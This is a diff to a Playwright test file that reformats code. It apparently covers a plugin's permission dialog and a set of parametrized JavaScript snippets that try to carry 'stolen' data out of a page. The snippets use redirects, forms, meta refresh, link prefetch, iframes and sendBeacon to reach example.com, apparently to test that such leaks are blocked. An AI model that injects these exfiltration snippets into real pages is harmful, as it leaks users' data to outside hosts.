@@ -60,8 +60,9 @@ def test_a_switch_shows_what_is_needed_then_the_page_is_there_and_goes_again(fil
     switch.click()
     asked = page.get_by_role("dialog", name="Turn on Garden?")
     assert asked.get_by_role("listitem").all_inner_texts() == [
-        "Run a program of its own on this machine.", "List and read your sessions in its page.",
-    ]  # fmt: skip
+        "Run a program of its own on this machine.",
+        "List and read your sessions in its page.",
+    ]
     assert violations(page) == []
     asked.get_by_role("button", name="Turn on").click()
     tabs(page).filter(has_text="Garden").click()
@@ -224,13 +225,13 @@ CARRY = {
     "its own address": "location.href = 'http://example.com/?stolen';",
     "a page of ours": "location.href = '/sessions?stolen';",
     "a form": "document.body.innerHTML = '<form action=\"http://example.com/\"><input name=stolen></form>';"
-              "document.forms[0].submit();",
+    "document.forms[0].submit();",
     "a refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=http://example.com/?stolen\">';",
-    "links": "document.head.innerHTML += '<link rel=stylesheet href=\"http://example.com/s.css\">"
-             "<link rel=prefetch href=\"http://example.com/p\"><link rel=preload as=image href=\"http://example.com/i\">';",
+    "links": 'document.head.innerHTML += \'<link rel=stylesheet href="http://example.com/s.css">'
+    '<link rel=prefetch href="http://example.com/p"><link rel=preload as=image href="http://example.com/i">\';',
     "a frame": "document.body.innerHTML = '<iframe src=\"http://example.com/?stolen\"></iframe>';",
     "a beacon": "navigator.sendBeacon('http://example.com/', 'stolen');",
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("way", CARRY.values(), ids=CARRY)
